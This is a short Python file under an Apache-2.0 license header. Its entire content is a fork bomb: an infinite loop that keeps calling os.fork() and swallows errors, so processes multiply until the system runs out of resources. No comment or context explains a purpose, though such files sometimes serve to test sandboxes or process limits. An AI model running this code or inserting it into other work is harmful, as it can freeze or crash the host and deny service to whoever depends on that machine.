# SPDX-License-Identifier: Apache-2.0
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
